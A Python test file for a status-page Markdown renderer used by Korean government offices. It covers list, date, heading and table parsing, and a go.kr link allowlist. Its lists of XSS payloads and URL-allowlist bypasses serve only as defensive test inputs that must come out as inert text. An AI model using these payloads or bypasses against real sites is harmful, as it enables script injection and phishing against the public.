"""Words people write come out as they were meant, and nothing else comes out with them."""

from __future__ import annotations

import re
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from html import escape
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from types import FrameType
from typing import TYPE_CHECKING

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from lxml import etree

from statuspage import prose
from statuspage import source as files
from statuspage.outputs import feeds
from statuspage.prose import Fault, Links

if TYPE_CHECKING:
    from _typeshed import TraceFunction

LINKS = Links(("*.go.kr", "gov.kr"))


class Seen(HTMLParser):
    """What a browser finds in a piece of HTML: elements, attributes, and whether every one is closed."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.odd: list[str] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in ("br", "hr"):
            if tag == "a" and "a" in self.open:
                self.odd.append("a link in a link")
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.odd.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.odd.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.odd.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.odd.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.odd.append(f"<?{data}>")

    def links(self) -> list[str | None]:
        return [attributes.get("href") for tag, attributes in self.elements if tag == "a"]


ALLOWED = {
    "a": {"href", "rel"}, "ol": {"start"}, "th": {"scope"},
    **{
        tag: set() for tag in (
            "p", "br", "hr", "h3", "h4", "h5", "h6", "ul", "li", "blockquote", "table", "thead", "tbody",
            "tr", "td", "strong", "em", "code", "pre",
        )
    },
}  # fmt: skip
"""Written out a second time, so that a change of the list in the program does not go unnoticed."""


def assert_safe(html: str) -> Seen:
    """No element, attribute or address beyond what was agreed, and fit for a feed."""
    seen = Seen(html)
    assert [] == seen.odd
    assert [] == seen.open
    for tag, attributes in seen.elements:
        assert tag in ALLOWED, html
        assert set(attributes) <= ALLOWED[tag], html
        if tag == "a":
            assert attributes["rel"] == "noopener"
            assert LINKS.permits(attributes["href"] or ""), html
    for character in html:
        assert character in "\n\t" or (character >= " " and not "\x7f" <= character <= "\x9f"), html
        assert not "\u202a" <= character <= "\u202e", html
        assert not "\u2066" <= character <= "\u2069", html
    # The strict judge of XML 1.0 characters: a feed that carries these words, escaped (R23).
    fed = etree.fromstring(f"<content>{escape(html)}</content>".encode())
    assert html == (fed.text or "")
    return seen


def written(text: str) -> str:
    """The HTML on one line, to compare."""
    return prose.html(text, LINKS).replace("\n", "")


def codes(text: str) -> list[str]:
    return [fault.code for fault in prose.faults(text, LINKS)]


def test_no_pattern_is_read_differently_by_the_python_of_debian_12() -> None:
    """Before 3.11.5 a group that is repeated possessively matches the wrong words (python/cpython#100061)."""
    house = Path(prose.__file__).parent
    possessive = re.compile(r"\)(?:[*+?]|\{[0-9,]+\})\+")

    assert [] == [path.name for path in house.rglob("*.py") if possessive.search(path.read_text())]


class TestMarkdownAsOfficesWriteIt:
    """An officer types at three in the morning, in Korean, and does not know what an empty line is for."""

    @pytest.mark.parametrize(
        ("expected", "source"),
        [
            ("<p>안내</p><ul><li>하나</li><li>둘</li></ul>", "안내\n- 하나\n- 둘"),
            ("<p>안내</p><ol><li>하나</li><li>둘</li></ol>", "안내\n1. 하나\n2. 둘"),
            ("<ul><li>하나</li></ul><p>그리고</p>", "- 하나\n그리고"),
            ("<ul><li>하나<br>이어서</li><li>둘</li></ul>", "- 하나\n  이어서\n- 둘"),
            ("<ul><li>하나<ul><li>가</li></ul></li><li>둘</li></ul>", "- 하나\n  - 가\n- 둘"),
            ("<ul><li>하나<ul><li>가</li></ul></li><li>둘</li></ul>", "- 하나\n    - 가\n- 둘"),
            ("<ul><li>하나<ul><li>가</li></ul></li><li>둘</li></ul>", "* 하나\n\t+ 가\n* 둘"),
            (
                "<ul><li>1<ul><li>2<ul><li>3</li></ul></li></ul></li><li>4</li></ul>",
                "- 1\n  - 2\n    - 3\n- 4",
            ),
            (
                "<ul><li>1<ul><li>2<ul><li>3</li></ul></li></ul></li><li>4</li></ul>",
                "- 1\n    - 2\n        - 3\n- 4",
            ),
            ("<ol><li>하나<ul><li>가</li></ul></li><li>둘</li></ol>", "1. 하나\n   - 가\n2. 둘"),
            ("<ol><li>하나</li><li>둘</li></ol>", "1) 하나\n2) 둘"),
            ("<ol><li>하나<ol><li>가</li></ol></li><li>둘</li></ol>", "1. 하나\n1) 가\n2. 둘"),
            (
                '<ol><li>하나</li></ol><ul><li>가</li></ul><ol start="2"><li>둘</li></ol>',
                "1. 하나\n- 가\n2. 둘",
            ),
            ("<ol start=\"10\"><li>열</li><li>열하나</li></ol>", "10. 열\n11. 열하나"),
            (
                "<ol><li><p>하나</p><p>문단</p></li><li><p>둘</p></li></ol>",
                "1. 하나\n\n    문단\n2. 둘",
            ),
            (
                "<ol><li><p>하나</p><p>문단</p></li><li><p>둘</p></li></ol>",
                "1. 하나\n\n   문단\n2. 둘",
            ),
            ("<ul><li>둘째 줄</li></ul>", "  - 둘째 줄"),
            ("<blockquote><p>인용</p><ul><li>하나</li></ul></blockquote><p>뒤</p>", "> 인용\n> - 하나\n뒤"),
        ],
    )  # fmt: skip
    def test_a_list_is_where_its_author_sees_one(self, expected: str, source: str) -> None:
        """Lists carry what to do instead; run together into one paragraph they are not read."""
        assert expected == written(source)

    @pytest.mark.parametrize(
        ("expected", "source"),
        [
            ("<p>2026. 11. 23. 점검합니다.</p>", "2026. 11. 23. 점검합니다."),
            ("<p>11. 23. 점검합니다.</p>", "11. 23. 점검합니다."),
            ("<p>11. 23. 14시부터</p>", "11. 23. 14시부터"),
            ("<p>11. 23. 14:00부터</p>", "11. 23. 14:00부터"),
            ("<p>11. 23.(월) 09:00</p>", "11. 23.(월) 09:00"),
            ("<p>11. 23(월) 09:00</p>", "11. 23(월) 09:00"),
            ("<p>2026. 상반기 계획</p>", "2026. 상반기 계획"),
            ("<p>안내<br>2026. 11. 23. 점검</p>", "안내\n2026. 11. 23. 점검"),
            ("<ul><li>11. 23. 점검</li></ul>", "- 11. 23. 점검"),
            ("<ul><li>하나<br>2026. 11. 23.부터</li></ul>", "- 하나\n  2026. 11. 23.부터"),
            ("<ol><li>11. 23. 점검</li><li>둘</li></ol>", "1. 11. 23. 점검\n2. 둘"),
            ("<blockquote><p>2026. 11. 23. 공고</p></blockquote>", "> 2026. 11. 23. 공고"),
        ],
    )
    def test_a_date_is_not_a_list(self, expected: str, source: str) -> None:
        """`11. 23.` shown as item 11 of a list tells the wrong day."""
        assert expected == written(source)

    @pytest.mark.parametrize(
        ("expected", "source"),
        [
            ("<p>#1 서버</p>", "#1 서버"),
            ("<p>#장애</p>", "#장애"),
            ("<h3>경과</h3><p>내용</p>", "# 경과\n내용"),
            ("<p>앞</p><h3>경과</h3>", "앞\n## 경과"),
            ("<h3>하나</h3><h4>둘</h4><h3>셋</h3>", "## 하나\n#### 둘\n## 셋"),
            ("<h3>경과</h3>", "## 경과 ##"),
            ("<p>앞</p><hr><p>뒤</p>", "앞\n---\n뒤"),
            ("<p>제목<br>===</p>", "제목\n==="),
        ],
    )
    def test_headings_begin_at_the_third_level_and_leave_no_gap(self, expected: str, source: str) -> None:
        """The page and the update have the first two; who listens to the page walks along the levels."""
        assert expected == written(source)

    @pytest.mark.parametrize(
        ("expected", "source"),
        [
            ("<p>첫 줄<br>둘째 줄</p>", "첫 줄\n둘째 줄"),
            ("<p>첫 줄<br>둘째 줄</p>", "첫 줄  \r\n둘째 줄\r\n"),
            ("<p>하나</p><p>둘</p>", "하나\n\n\n\n둘"),
            ("<p>들여 쓴 글</p>", "    들여 쓴 글"),
            ("<p><strong>장애(오류)</strong>가 났습니다.</p>", "**장애(오류)**가 났습니다."),
            ("<p><strong>‘정부24’</strong>는</p>", "**‘정부24’**는"),
            ("<p><em>곧</em> <strong><em>꼭</em></strong></p>", "*곧* ***꼭***"),
            ("<p><strong>굵고 <em>기운</em></strong> 글</p>", "**굵고 *기운*** 글"),
            ("<p>snake_case_name, <em>곧</em>, <strong>꼭</strong></p>", "snake_case_name, _곧_, __꼭__"),
            ("<p>2 * 3 * 4, 5 ** 6</p>", "2 * 3 * 4, 5 ** 6"),
            ("<p>*별* # \\ &lt;</p>", r"\*별\* \# \\ \<"),
            ("<p>R&amp;D &amp; © &lt;</p>", "R&D &amp; &copy; &lt;"),
            ("<p><code>*a* &amp;lt;</code></p>", "`*a* &lt;`"),
            ("<p>~~취소~~</p>", "~~취소~~"),
        ],
    )
    def test_marks_inside_a_line_work_next_to_korean(self, expected: str, source: str) -> None:
        """Particles follow a word without a space; CommonMark would then leave the stars standing."""
        assert expected == written(source)

    def test_a_table_says_what_heads_its_columns(self) -> None:
        """Without `scope` a screen reader reads numbers without their names."""
        expected = (
            '<p>창구별</p><table><thead><tr><th scope="col">창구</th><th scope="col">상태</th></tr></thead>'
            "<tbody><tr><td>웹</td><td><code>a|b</code></td></tr></tbody></table><p>끝</p>"
        )
        assert expected == written("창구별\n| 창구 | 상태 |\n|---|:-:|\n| 웹 | `a|b` |\n끝")

    @pytest.mark.parametrize("fence", ["```", "~~~", "```text", "````"])
    def test_code_is_shown_as_it_is(self, fence: str) -> None:
        """Error messages are quoted in notes, with all their stars and brackets."""
        close = fence.removesuffix("text")
        expected = "<p>앞</p>\n<pre><code>**a** &lt;b&gt; &amp;amp;\n\n  - 2026. 1\n</code></pre>\n<p>뒤</p>"
        source = f"앞\n{fence}\n**a** <b> &amp;\n\n  - 2026. 1\n{close}\n뒤"
        assert expected == prose.html(source, LINKS)

    def test_a_fence_may_stand_in_a_list_and_may_be_left_open(self) -> None:
        """Nothing that was written disappears because a mark is missing."""
        assert "<ul><li><p>가</p><pre><code>x</code></pre></li><li><p>나</p></li></ul>" == written(
            "- 가\n  ```\n  x\n  ```\n- 나"
        )
        assert "<pre><code>x</code></pre>" == written("```\nx")

    def test_nothing_becomes_nothing(self) -> None:
        """An update may consist of its facts alone."""
        assert "" == prose.html("", LINKS)
        assert "" == prose.html(" \n\n", LINKS)
        assert "" == prose.plain("\n")

    @pytest.mark.parametrize(
        ("expected", "source"),
        [
            ("<p>[1]: https://www.evil.example</p>", "[1]: https://www.evil.example"),
            ("<p>[a][1]</p>", "[a][1]"),
            ("<p>글 {: .x onclick=y}</p>", "글 {: .x onclick=y}"),
            ("<p>글[^1]</p>", "글[^1]"),
        ],
    )
    def test_what_notes_do_not_need_is_shown_as_typed(self, expected: str, source: str) -> None:
        """Every mark that is not there is one that nobody can misuse or type by accident."""
        assert expected == written(source)


ELSEWHERE = [
    "https://evil.example", "https://go.kr", "https://www.gov.kr", "https://evilgov.kr", "https://xgo.kr",
    "https://www.go.kr.evil.example", "https://www.go.kr@evil.example", "https://evil.example#.go.kr",
    "https://evil.example/.go.kr", "https://evil.example?.go.kr", "https://a@www.go.kr", "https://a:b@www.go.kr",
    "https://www.go.kr:8443", "https://www.go.kr:443/", "https://www.go.kr.", "https://.go.kr",
    "https://a..go.kr", "https://www.go.kr%2eevil.example", "https://www．go．kr", "https://www.gо.kr",
    "https://-.go.kr", "https:evil.example", "https:/evil.example", "https:///evil.example",
    "https:\\\\evil.example", "https:www.go.kr", "https:\\\\www.go.kr", "https://www.go.kr\\@evil.example",
    "//evil.example", "//www.go.kr", "///evil.example", "/\\evil.example", "\\\\evil.example",
    "\\/evil.example", "/.//evil.example", "www.go.kr", "evil.example", "https://127.0.0.1",
    "https://2130706433", "https://[::1]", "https://www.go.kr/ b", "https://www.go.kr/\tb", "https://", "",
    "https://www.go.kr/<b>", 'https://www.go.kr/"b', "javascript:alert(1)", "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,x", "vbscript:x",
    "intent://x#Intent;end", "file:///etc/passwd", "blob:https://www.go.kr/x", "ftp://www.go.kr",
    "ssh://www.go.kr", "market://x", "kakaotalk://x", "view-source:https://www.go.kr", "mailto:", "mailto:a",
    "mailto:a@b.kr?bcc=c@d.kr", "mailto:a@b.kr,c@d.kr", "tel:*21*010#", "tel:", "sms:110?body=x",
    "tel:110;ext=1", "a:b", ":", "x/y:z",
]  # fmt: skip
"""Addresses that no note may lead to, however they are written down."""

UNTYPED = [
    " https://www.go.kr", "\x01https://www.go.kr", "https://www.go.kr/\u202eb", "/\u200bb",
    "https://evil.example\\.go.kr",
]  # fmt: skip
"""Addresses that are refused as they stand; Markdown or the cleaning makes others of them."""


class TestLinks:
    """Smishing lives on look-alike addresses; a government page must never carry one (R39)."""

    @pytest.mark.parametrize(
        "url",
        [
            "https://www.go.kr", "https://a.b.go.kr/path?q=1&r=2#x", "https://gov.kr/",
            "http://WWW.GO.KR/민원", "HTTPS://www.go.kr", "https://www.go.kr?t=12:30", "tel:110",
            "tel:02-120", "tel:+82-2-120", "sms:110", "mailto:help@korea.kr", "#notice", "/services/x/",
            "../a/", "./b.html", "?lang=en", "/a?b=c:d#e/f",
        ],
    )  # fmt: skip
    def test_lead_to_listed_hosts_phones_mailboxes_and_this_site(self, url: str) -> None:
        """And nothing stands in the way of what an office really links to."""
        assert LINKS.permits(url)
        assert [url] == Seen(prose.html(f"[글]({url})", LINKS)).links()

    @pytest.mark.parametrize("url", ELSEWHERE)
    def test_lead_nowhere_else(self, url: str) -> None:
        """Each of these is a way round a list of hosts that has worked somewhere."""
        assert not LINKS.permits(url)
        for source in (f"[글]({url})", f"[글](<{url}>)", f'[글]({url} "x")', f"<{url}>"):
            assert [] == assert_safe(prose.html(source, LINKS)).links()

    @pytest.mark.parametrize("url", UNTYPED)
    def test_are_judged_without_what_was_taken_out_of_them(self, url: str) -> None:
        """A hidden character or a backslash is gone before the address is judged, never after."""
        assert not LINKS.permits(url)
        for source in (f"[글]({url})", f"[글](<{url}>)", f'[글]({url} "x")', f"<{url}>"):
            assert_safe(prose.html(source, LINKS))

    @pytest.mark.parametrize("pattern", ["*", "*.kr", "*.", "", "kr", "*go.kr"])
    def test_a_pattern_too_wide_permits_nothing(self, pattern: str) -> None:
        """Anybody can register a name under .kr; a list that says so lists nothing."""
        assert not Links((pattern,)).permits("https://www.go.kr/")

    def test_without_a_list_no_host_is_permitted(self) -> None:
        """The safe answer where `site.yaml` says nothing."""
        assert not Links().permits("https://www.go.kr/")
        assert Links().permits("tel:110")

    def test_a_refused_link_leaves_its_words(self) -> None:
        """The sentence still reads; only the way to the false address is gone."""
        assert "<p>여기 <strong>새 주소</strong>로</p>" == written(
            "여기 [**새 주소**](https://evil.example)로"
        )
        assert "<p>https://evil.example/a_b_c</p>" == written("<https://evil.example/a_b_c>")
        assert "<p>https://evil.example</p>" == written("[](https://evil.example)")

    def test_a_link_without_words_says_its_address(self) -> None:
        """A link without a name cannot be found by those who listen."""
        expected = '<p><a href="https://www.go.kr/a_b_c" rel="noopener">https://www.go.kr/a_b_c</a></p>'
        assert expected == written("[](https://www.go.kr/a_b_c)")
        assert expected == written("<https://www.go.kr/a_b_c>")

    def test_an_address_keeps_its_brackets_marks_and_parameters(self) -> None:
        """`&section=` looks like the beginning of `&sect;`, and is none."""
        url = "https://www.go.kr/a_(b)_c?lang=ko&section=2&copy=1"
        assert [url] == Seen(prose.html(f"[글]({url})", LINKS)).links()

    def test_a_picture_becomes_its_words(self) -> None:
        """Pictures in notes load from elsewhere, say nothing to many, and are never needed (R45)."""
        assert "<p>지도 보기</p>" == written("![지도](https://www.go.kr/map.png) 보기")
        expected = '<p><a href="https://www.go.kr" rel="noopener">지도</a></p>'
        assert expected == written("[![지도](a.png)](https://www.go.kr)")


PAYLOADS = [
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java\tscript:alert(1))",
    "[a](java\nscript:alert(1))", "[a](java\rscript:alert(1))", "[a](\x01javascript:alert(1))",
    "[a](javascript&colon;alert(1))", "[a](&#106;avascript:alert(1))", "[a](&#x6A;avascript:alert(1))",
    "[a](&#0000106avascript:alert(1))", "[a](java&#115;cript:alert(1))", "[a](java&Tab;script:alert(1))",
    "[a](java&NewLine;script:alert(1))", "[a](&amp;#106;avascript:alert(1))",
    "[a](&amp;amp;#106;avascript:alert(1))", "[a](javascript&#58;alert(1))",
    "[a](javascript&#x3a;alert(1))", "[a](<javascript:alert(1)>)", "[a](< javascript:alert(1)>)",
    "[a]( javascript:x )", "[a](java\\script:alert(1))", "[a](\\javascript:alert(1))",
    "[a](`javascript:`alert)", "[a](javascript://%0aalert(1))", "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](DATA:text/html,<script>alert(1)</script>)", "[a](vbscript:msgbox(1))", "[a](//evil.example)",
    "[a](\\\\evil.example)", "[a](/\\evil.example)", "[a](\\/\\/evil.example)",
    "[a](&#47;&#47;evil.example)", "[a](&sol;&sol;evil.example)", "[a](&bsol;&bsol;evil.example)",
    "[a](https:evil.example)", "[a](https://www.go.kr@evil.example)",
    "[a](https://www.go.kr&#64;evil.example)", "[a](https://www.go.kr&commat;evil.example)",
    "[a](https://evil.example&#35;.go.kr)", "[a](https://evil.example&sol;.go.kr)",
    "[a](intent://evil#Intent;scheme=http;end)", "[a](https://www.go.kr&period;evil.example)",
    "[a](https://www.go.kr/&#x202E;)", "[a](https://w\u202eww.go.kr)", "[a](java\u200bscript:alert(1))",
    "[a](java\ufeffscript:alert(1))", "[a](java&#x200B;script:alert(1))",
    '[a](https://www.go.kr "onmouseover=alert(1)")', '[a](https://www.go.kr "x" onclick="alert(1)")',
    '[a](https://www.go.kr/"onclick=alert(1)")', "[a](https://www.go.kr/'onclick='alert(1))",
    "[a](https://www.go.kr/&quot;onclick=alert(1))", "[a](https://www.go.kr/&#34;&#62;&#60;img src=x&#62;)",
    "[a](<https://www.go.kr/\" onclick=alert(1)>)", "[a](https://www.go.kr/><script>alert(1)</script>)",
    "[a](https://www.go.kr 'x\"><script>alert(1)</script>')", "[a][1]\n\n[1]: javascript:alert(1)",
    "[a][]\n\n[a]: javascript:alert(1) \"x\"", "[a]\n\n[a]: data:text/html,x", "![a](javascript:alert(1))",
    "![a](https://evil.example/pixel.gif)", "![a\" onerror=\"alert(1)](x)",
    "![a][1]\n\n[1]: https://evil.example/x.png", "<javascript:alert(1)>",
    "<JAVASCRIPT://www.go.kr/%0aalert(1)>", "<data:text/html,x>", "<https://evil.example>",
    "<https://www.go.kr/\"onclick=alert(1)>", "<a@evil.example\"onclick=alert(1)>",
    "<mailto:a@b.kr?bcc=c@d.kr>", "[<https://www.go.kr>](https://evil.example)",
    "[a [b](https://www.go.kr) c](javascript:x)", "[[a](javascript:x)](https://www.go.kr)",
    "[![a](javascript:x)](javascript:y)", "**[a](javascript:x)**", "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=`javascript:alert(1)`>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<style>*{x:expression(alert(1))}</style>",
    "<style>@import '//evil.example'</style>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0>", "<base href=//evil.example>",
    "<form action=//evil.example><input name=주민번호></form>", "<button formaction=javascript:x>",
    "<object data=x>", "<embed src=x>", "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>", "<template><p>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img src=x onerror=alert(1)>", "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext>", "<!--><img src=x onerror=alert(1)>-->",
    "<!-- x -->", "<![CDATA[<script>alert(1)</script>]]>", "<?php alert(1) ?>", "<!DOCTYPE html>",
    "<a href=javascript:alert(1)>a</a>", "<p style='position:fixed' class=sp-tag id=x data-x=1>a</p>",
    "<div onclick=alert(1)>a</div>", "</p></div><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;", "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```", "```\" onclick=alert(1)\nx\n```",
    "```html onclick=x\n<script>\n```", "| a |\n|---|\n| <script>alert(1)</script> |",
    "# <script>alert(1)</script>", "- <img src=x onerror=alert(1)>", "> <svg onload=alert(1)>",
    "\x02wzxhzdk:0\x03", "\x02klzzwxh:0000\x03", "\x0260\x03script\x0262\x03", "\x02amp\x03lt;",
    "&#2;wzxhzdk:0&#3;", "&#2;klzzwxh:0000&#3; *a*", "&#2;60&#3;img src=x&#2;62&#3;", "\x02code:0\x03",
    "&#2;code:0&#3;", "a {: onclick=alert(1) }", "# a {#id .c onclick=x}",
    "[a](https://www.go.kr){: onclick=alert(1)}", "[TOC]", "a\u202eb", "a&#x202E;b", "a&#8238;b",
    "a\u2066b\u2069", "a\x00b", "a&#0;b", "a&#x1F;b", "a&#31;b", "a&#xFFFE;b", "a\ufffeb", "a\uffffb",
    "a&#xFFFF;b", "a&#x7F;b", "a\x7fb", "a&#x80;b", "a&#xD800;b", "a&#x110000;b", "a\x1bb", "a\ud800b",
    "a&#x1FFFE;b", "`a&#x1F;b`", "`a\x1fb`", "```\na\x1fb\n```", "# a&#x1F;b", "a\x0bb\x0cc",
    "a\x85b\u2028c",
]  # fmt: skip


MARKS = [
    "[", "]", "(", ")", "](", "!", "<", ">", "*", "**", "_", "`", "```", "~~~", "\n", "\n\n", "- ", "1. ",
    "1) ", "  ", "    ", "> ", "# ", "|", "-|-", "---", "\\", "&", ";", "&#x1F;", "&lt;", "https://", "//",
    "www.go.kr", "javascript:", "@", ":", '"', "'", "\x02", "\x03", "klzzwxh:0000", "code:0", "11. 23. ",
    "가", "a", "0", "<b>", "<!--", "\u202e", "\u200b", "\r", "\t", "\ud800", "\ufffe",
]  # fmt: skip
"""What a text is made of that tries every corner of the grammar."""


class TestNothingElseComesOut:
    """What careless or hostile hands put into a note stays words (R38)."""

    @pytest.mark.parametrize("payload", PAYLOADS)
    @pytest.mark.parametrize(
        "around", ["{}", "앞 {} 뒤", "- {}", "**{}**", "> {}", "| a | b |\n|---|---|\n| {} | c |"]
    )
    def test_a_payload_is_only_words(self, payload: str, around: str) -> None:
        """Two layers, and this looks at what a browser would make of the result."""
        source = around.format(payload)
        seen = assert_safe(prose.html(source, LINKS))
        assert_safe(prose.html(source * 30 + "x" * prose.LONGEST, LINKS))
        assert {"https://www.go.kr"} >= {
            (link or "").partition("/'")[0].partition('/"')[0].rstrip("/") for link in seen.links()
        }

    def test_html_is_shown_as_it_was_typed(self) -> None:
        """Its author sees that it did nothing, and no word is lost."""
        assert "<p>&lt;b&gt;굵게&lt;/b&gt; &lt;주민등록&gt;</p>" == written("<b>굵게</b> <주민등록>")
        assert "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>" == written("<script>alert(1)</script>")

    def test_joiners_stay_where_they_shape_letters(self) -> None:
        """Persian words and family emoji fall apart without them; between Hangul they only hide."""
        assert "<p>می\u200cخواهم 👨\u200d👩</p>" == written("می\u200cخواهم 👨\u200d👩")
        assert "<p>gov정부</p>" == written("g\u200dov정\u200c부")

    @given(st.text() | st.lists(st.sampled_from(MARKS) | st.text(max_size=5), max_size=60).map("".join))
    @example("```")
    @example("- \n-")
    @example("> ~~~\n> a")
    def test_any_text_at_all_is_safe(self, text: str) -> None:
        """The list of payloads ends; what people type does not."""
        seen = assert_safe(prose.html(text, LINKS))
        assert "klzzwxh:" not in seen.words or "klzzwxh:" in text
        assert "code:" not in seen.words or "code:" in text
        assert_safe(escape(prose.plain(text), quote=False))
        assert not prose.plain(text, LINKS).startswith("\n")
        lines = text.split("\n")
        found = list(prose.faults(text, LINKS))
        for fault in found:
            assert 1 <= fault.line <= len(lines)
            assert 1 <= fault.column <= len(lines[fault.line - 1]) + 1
        assert all(before.line <= after.line for before, after in pairwise(found))

    @given(st.lists(st.sampled_from(MARKS), max_size=60).map("".join))
    def test_no_structure_trips_the_parser(self, text: str) -> None:
        """Bare paragraphs are for what is too long or too deep, not a cover for mistakes of ours."""
        try:
            prose._prepared(text)
        except prose._TooDeepError:
            return
        assert not prose._written(text, LINKS).deep

    @given(
        st.lists(
            st.sampled_from(
                ["가", "나 ", "*", "**", "- ", "1. ", "\n", "\n\n", "  ", "> ", "# ", "`", "_", "| "]
            )
        )
    )
    def test_no_word_is_lost(self, marks: list[str]) -> None:
        """Whatever the marks around them mean, every syllable reaches the reader."""
        text = "".join(marks)
        for syllable in "가나":
            assert text.count(syllable) == Seen(prose.html(text, LINKS)).words.count(syllable)
            assert text.count(syllable) == prose.plain(text).count(syllable)


class TestPlainText:
    """Messages, feeds and terminals show no HTML."""

    @pytest.mark.parametrize(
        ("expected", "source"),
        [
            ("하나\n둘\n\n셋", "하나\n둘\n\n셋"),
            ("안내\n\n- 하나\n  - 가\n- 둘\n\n끝", "안내\n- 하나\n  - 가\n- 둘\n\n끝"),
            ("- 하나\n  이어서\n  문단\n- 둘", "- 하나\n  이어서\n\n  문단\n- 둘"),
            ("3. 셋\n4. 넷", "3) 셋\n4) 넷"),
            ("경과\n\n꼭 읽으세요 R&D <b>", "# 경과\n**꼭** *읽으세요* R&amp;D <b>"),
            ("정부 (https://www.go.kr/a?b=1&c=2) 참고", "[정부](https://www.go.kr/a?b=1&c=2) 참고"),
            ("https://www.go.kr/", "[https://www.go.kr/](https://www.go.kr/)"),
            ("www.go.kr", "[www.go.kr](https://www.go.kr/)"),
            ("https://www.go.kr", "<https://www.go.kr>"),
            ("문의 (a@b.go.kr), 110", "[문의](mailto:a@b.go.kr), [110](tel:110)"),
            ("아래 지도", "[아래](#x) ![지도](a.png)"),
            ("창구 | 상태\n웹 | 정상", "| 창구 | 상태 |\n|---|---|\n| 웹 | 정상 |"),
            ("앞\n\n**x**\n\n  y\n\n뒤", "앞\n```\n**x**\n\n  y\n```\n뒤"),
            ("인용", "> 인용"),
            ("ab", "a&#x1F;b"),
        ],
    )
    def test_the_same_words_without_marks(self, expected: str, source: str) -> None:
        """A reader of the text version must learn no less."""
        assert expected == prose.plain(source)

    def test_an_address_that_must_not_be_linked_is_left_out_where_the_list_is_known(self) -> None:
        """Mail programs turn every address into a link."""
        assert "새 주소" == prose.plain("[새 주소](https://evil.example)", LINKS)
        assert "새 주소 (https://www.go.kr)" == prose.plain("[새 주소](https://www.go.kr)", LINKS)
        assert "새 주소" == prose.plain("[새 주소](javascript:x)")


class TestFaults:
    """What does not come out as its author expects is said before it is published."""

    @pytest.mark.parametrize(
        ("expected", "source"),
        [
            (Fault("link-host", "https://evil.example", 2, 6), "첫 줄\n[여기](https://evil.example)"),
            (Fault("link-host", "https://evil.example", 1, 4), "여 <https://evil.example>"),
            (Fault("link-host", "www.go.kr", 1, 6), "[a](<www.go.kr>)"),
            (Fault("link-host", "//evil.example", 1, 5), "[a](//evil.example)"),
            (Fault("link-scheme", "javascript:alert(1)", 1, 5), "[a](javascript:alert(1))"),
            (Fault("link-scheme", "&#106;avascript:x", 1, 5), "[a](&#106;avascript:x)"),
            (Fault("link-scheme", "", 1, 5), "[a]()"),
            (Fault("image-in-words", "map.png", 1, 6), "![a](map.png)"),
            (Fault("control-character", "U+202E", 3, 2), "a\n\nb\u202ec"),
            (Fault("control-character", "U+200B", 1, 2), "a\u200b\u200bb"),
            (Fault("control-character", "U+0007", 1, 1), "\x07"),
            (Fault("control-character", "&#x1F;", 1, 3), "글 &#x1F;"),
            (Fault("control-character", "&ZeroWidthSpace;", 1, 1), "&ZeroWidthSpace;"),
            (Fault("html-in-words", "<b>", 2, 3), "글\n글 <b>굵게</b>"),
            (Fault("html-in-words", "<!-- x -->", 1, 1), "<!-- x -->"),
            (Fault("html-in-words", '<a href="x">', 1, 1), '<a href="x">'),
            (Fault("words-too-deep", "> " * 9 + "글", 2, 1), "글\n" + "> " * 9 + "글"),
            (Fault("words-too-deep", "[" * 20, 3, 1), "글\n\n" + "[" * 60),
            (Fault("words-too-long", "가" * 20, 1, 20_001), "가" * 20_050),
            (Fault("words-too-long", "글", 2, 1), "가" * 19_999 + "\n글"),
        ],
    )
    def test_each_is_named_with_its_place(self, expected: Fault, source: str) -> None:
        """Who is told only that something is wrong looks for it in the whole note."""
        assert [expected] == list(prose.faults(source, LINKS))

    @pytest.mark.parametrize(
        "source",
        [
            "인증 장비의 장애를 확인했습니다. 창구는 **방문하지 마세요**.\r\n\r\n- [정부](https://www.go.kr/a?b=1&c=2)",
            "`<b>` ![안] 3 < 5 > 2, <주민등록>, a@b.kr <a@b.kr> <https://www.go.kr> 👨\u200d👩 می\u200cخواهم",
            "```\n<script>\n&#x1F; [a](javascript:x)\n```",
            "`&#x1F;` `[a](javascript:x)` R&D &amp; &copy;",
            "- 1\n  - 2\n    - 3\n      - 4\n\n> > 인용",
            "성명: ______________ (((참고))) [[중요]]",
            "",
        ],
    )
    def test_what_offices_write_has_none(self, source: str) -> None:
        """A check that cries at every note is switched off."""
        assert [] == codes(source)

    def test_a_line_is_reported_once_for_each_kind(self) -> None:
        """A pasted web page must not bury the one link that matters."""
